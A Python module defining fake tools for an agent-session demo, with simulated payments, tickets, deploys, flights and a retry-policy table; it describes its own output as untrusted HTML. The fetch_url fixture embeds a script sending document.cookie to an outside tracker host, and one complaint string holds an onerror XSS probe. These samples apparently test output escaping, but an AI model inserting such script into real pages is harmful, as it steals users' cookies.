"""The demo's fake tools: what each takes and answers, how slow it is, how it fails, and
how bad an unknown outcome of it is (TOOL_POLICIES). Their output is untrusted text:
some of it holds HTML such as `<b>` or `<script>`."""

from __future__ import annotations

import json
import random
import string
from collections.abc import Callable
from dataclasses import dataclass

from sessions_app.log import recovery


@dataclass(frozen=True)
class Tool:
    name: str
    latency: tuple[float, float]  # seconds, min and max
    errors: tuple[str, ...]  # what it says when it fails
    run: Callable[[random.Random, dict], tuple[dict, str]]  # (rng, facts) -> (arguments, output)


TOOLS: dict[str, Tool] = {}
ERROR_RATE = 0.12


def _tool(latency: tuple[float, float], *errors: str):
    def register(run):
        TOOLS[run.__name__] = Tool(run.__name__, latency, errors, run)
        return run

    return register


def _json(value) -> str:
    return json.dumps(value, indent=2)


def random_token(rng: random.Random, length: int) -> str:
    return "".join(rng.choices(string.ascii_letters + string.digits, k=length))


@_tool((0.2, 0.9), "customer not found")
def lookup_customer(rng, f):
    card = {"brand": rng.choice(["visa", "mastercard", "amex"]), "last4": f"{rng.randint(0, 9999):04d}"}
    return {"email": f["email"]}, _json(
        {"id": f["customer_id"], "name": f["customer"], "email": f["email"], "plan": f["plan"], "card": card}
    )


@_tool((0.3, 1.2), "invoice not found")
def get_invoice(rng, f):
    lines = [
        {"description": rng.choice(["API requests", "Seats", "Storage (GB-month)", "Support plan"]),
         "quantity": rng.randint(1, 5000), "amount_cents": rng.randint(100, 20000)}
        for _ in range(rng.choice([2, 3, 4, 60]))  # now and then an itemised monster
    ]  # fmt: skip
    return {"invoice_id": f["invoice"]}, _json(
        {"id": f["invoice"], "customer": f["customer_id"], "status": "paid",
         "charges": [f["charge_id"], f"ch_{random_token(rng, 14)}"], "lines": lines}
    )  # fmt: skip


@_tool((0.8, 3.0), "card_declined: insufficient_funds", "card_declined: expired_card", "rate limited by processor")
def charge_card(rng, f):
    # The key the processor deduplicates on: a reconciler finds the charge by it.
    arguments = {
        "customer_id": f["customer_id"], "amount_cents": f["cents"], "currency": "usd", "idempotency_key": f"charge-{f['invoice']}"
    }  # fmt: skip
    return arguments, _json(
        {"charge_id": f"ch_{random_token(rng, 14)}", "status": "succeeded", "amount_cents": f["cents"]}
    )


@_tool((0.6, 2.5), "charge already refunded", "refund amount exceeds charge")
def create_refund(rng, f):
    return {"charge_id": f["charge_id"], "amount_cents": f["cents"], "reason": "duplicate"}, _json(
        {"refund_id": f"re_{random_token(rng, 14)}", "status": "pending", "amount_cents": f["cents"]}
    )


@_tool((0.4, 1.5), "SMTP 451: temporary local problem, try again later")
def send_email(rng, f):
    subject = rng.choice(["Your refund is on its way", "Receipt for your payment", "Update on your request"])
    body = f"Hi {f['customer'].split()[0]},\n\n{rng.choice(EMAIL_BODIES)}\n\nBest,\nAcme Support"
    return {"to": f["email"], "subject": subject, "body": body}, f"queued message <{random_token(rng, 16)}@mail.acme.test>"


@_tool((0.3, 1.5), "search backend timed out")
def search_docs(rng, f):
    query = f["topic"] if rng.random() < 0.5 else rng.choice(["password reset email", "webhook retries", "sso setup"])
    words = query.split()
    hits = [
        {"title": f"{rng.choice(DOC_TITLES)} ({i + 1})", "url": f"https://docs.acme.test/{random_token(rng, 8).lower()}",
         "snippet": f"... how to configure <b>{rng.choice(words)}</b> for your workspace; see also <b>{words[0]}</b> ..."}
        for i in range(rng.choice([3, 5, 8, 40]))
    ]  # fmt: skip
    return {"query": query, "limit": len(hits)}, _json({"query": query, "hits": hits})


@_tool((0.2, 0.7), "ticket not found")
def get_ticket(rng, f):
    thread = [
        {"from": f["email"], "body": rng.choice(CUSTOMER_COMPLAINTS)},
        {"from": "agent@acme.test", "body": "Thanks for reaching out, we're looking into it."},
    ]
    return {"ticket_id": f["ticket"]}, _json(
        {"id": f["ticket"], "status": "open", "priority": rng.choice(["low", "normal", "high"]), "thread": thread}
    )


@_tool((0.2, 0.8), "ticket is locked by another agent")
def update_ticket(rng, f):
    arguments = {"ticket_id": f["ticket"], "status": "pending", "note": "Replied to the customer."}
    return arguments, f"ticket {f['ticket']} is now pending"


@_tool((0.8, 4.0), "HTTP 503 from upstream", "DNS lookup failed")
def fetch_url(rng, f):
    url = f"https://{rng.choice(['blog', 'status', 'forum'])}.example.org/{random_token(rng, 6).lower()}"
    paragraphs = "\n".join(f"<p>{rng.choice(FILLER)}</p>" for _ in range(rng.choice([3, 6, 80])))
    page = (
        f"<html><head><title>{f['topic'].title()}</title>"
        "<script>window.dataLayer=[];fetch('https://tracker.example.org/t?u='+document.cookie)</script>"
        f"</head><body><h1>{f['topic'].title()}</h1><b>Updated today.</b>\n{paragraphs}</body></html>"
    )
    return {"url": url}, page


@_tool((0.1, 0.5), "ENOENT: no such file or directory", "EACCES: permission denied")
def read_file(rng, f):
    lines = [
        f"{i:4d}  {rng.choice(CODE_LINES)}" for i in range(1, rng.choice([20, 40, 400]) + 1)
    ]  # large files are the usual way a context window fills up
    return {"path": f["path"]}, "\n".join(lines)


@_tool((4.0, 20.0), "3 failed: test_checkout_flow, test_refund_webhook, test_login_sso")
def run_tests(rng, f):
    passed, skipped, seconds = rng.randint(180, 900), rng.randint(0, 12), rng.uniform(20, 240)
    return {"suite": "smoke", "service": f["service"]}, f"{passed} passed, {skipped} skipped in {seconds:.1f}s"


@_tool((5.0, 30.0), "health check failed: 3/5 pods CrashLoopBackOff", "deploy lock held by release-bot")
def deploy_service(rng, f):
    return {"service": f["service"], "version": f["version"], "environment": f["deploy_to"]}, _json(
        {"deployment_id": f"dep_{random_token(rng, 10)}", "status": "rolled_out", "replicas": rng.randint(2, 12)}
    )


@_tool((0.3, 1.2), "metrics backend unavailable")
def get_metrics(rng, f):
    points = [
        {"t": f"-{i}m", "p99_ms": round(rng.uniform(80, 900), 1), "error_rate": round(rng.uniform(0, 0.04), 4)}
        for i in range(rng.choice([10, 30, 240]))
    ]
    return {"service": f["service"], "window": "4h"}, _json({"service": f["service"], "series": points})


@_tool((0.2, 0.8), "unknown city")
def get_weather(rng, f):
    days = [  # the answers say: dry on Saturday, rain likely on Sunday
        {"day": day, "high_c": rng.randint(8, 31), "rain_chance": round(rng.uniform(*rain), 2)}
        for day, rain in [("Fri", (0.0, 1.0)), ("Sat", (0.0, 0.15)), ("Sun", (0.55, 0.9))]
    ]
    return {"city": f["city"], "days": 3}, _json({"city": f["city"], "forecast": days})


@_tool((1.0, 4.0), "GDS timeout")
def search_flights(rng, f):
    others = [
        {"option_id": f"opt_{random_token(rng, 6)}", "carrier": rng.choice(["LH", "BA", "AF", "KL", "IB"]),
         "depart": f"{rng.randint(6, 21):02d}:{rng.choice(['05', '30', '45'])}", "price_usd": rng.randint(f["fare_usd"] + 1, 640)}
        for _ in range(rng.randint(2, 11))
    ]  # fmt: skip
    cheapest = {"option_id": f["option_id"], "carrier": "LH", "depart": f["depart"], "price_usd": f["fare_usd"]}
    options = rng.sample([cheapest, *others], len(others) + 1)
    return {"from": f["city2"], "to": f["city"], "date": "next Friday"}, _json({"options": options})


@_tool((1.5, 6.0), "fare no longer available", "payment authorization failed")
def book_flight(rng, f):
    return {"option_id": f["option_id"], "passenger": f["customer"]}, _json(
        {"confirmation": random_token(rng, 6).upper(), "status": "ticketed"}
    )


# What the tools' answers are made of.
EMAIL_BODIES = (
    "We've processed your request; you'll see it on your statement in 5-10 business days.",
    "Thanks for your patience. Your account is all set.",
    "Here is the update you asked for. Reply to this email if anything looks off.",
)
CUSTOMER_COMPLAINTS = (
    "I've tried 4 times and the reset email <b>never</b> arrives!!",
    "Your widget shows <img src=x onerror=alert(1)> in my name field, what is going on",
    "Please help, our whole team is locked out since this morning.",
)
DOC_TITLES = ("Password reset", "Webhooks", "Single sign-on", "Rate limits", "Billing FAQ", "Security model")
FILLER = (
    "Researchers reported a <b>12%</b> improvement over the previous baseline.",
    "The results did not replicate on the larger dataset.",
    "Comments are closed. <a href='javascript:void(0)'>Log in</a> to reply.",
    "This post was updated to correct an error in table 2.",
)
CODE_LINES = (
    "def charge(customer, amount_cents):",
    "    return client.post('/charges', json={'amount': amount_cents}, timeout=TIMEOUT)",
    "RETRIES = 3  # the processor drops about 1 in 500 requests",
    "2025-05-12T09:14:03Z INFO worker-3 processed batch size=500 in 1.2s",
    "2025-05-12T09:14:05Z WARN worker-1 retrying payment after 502 from upstream",
    "    # keep the legacy fallback until every region runs the new client",
    "",
)


# How bad an unknown outcome of each demo tool is (seed_demo stores them as ToolPolicy rows):
# (tool name or shell-style pattern, side-effect class, note).
TOOL_POLICIES = (
    ("get_*", "read_only", "lookups: safe to retry"),
    ("search_*", "read_only", "searches: safe to retry"),
    ("lookup_customer", "read_only", ""),
    ("read_file", "read_only", ""),
    ("fetch_url", "read_only", "a GET of a public page"),
    ("update_ticket", "external_effect", "posts a note on the customer's ticket: check the ticket before retrying"),
    ("deploy_service", "external_effect", "a rollout to a live environment: check the deploy system before retrying"),
    ("run_tests", "idempotent", "re-running the suite repeats it; nothing outside changes"),
    ("charge_card", "external_effect", "moves money: check the processor before retrying"),
    ("create_refund", "external_effect", "moves money: check the processor before retrying"),
    ("book_flight", "external_effect", "buys a ticket"),
    ("send_*", "external_effect", "a message cannot be unsent"),
)


def side_effect_class(tool_name: str) -> str:
    """The class TOOL_POLICIES gives a tool, by the rule ToolPolicy rows follow."""
    return recovery.side_effect_class(tool_name, [(pattern, cls) for pattern, cls, _ in TOOL_POLICIES])
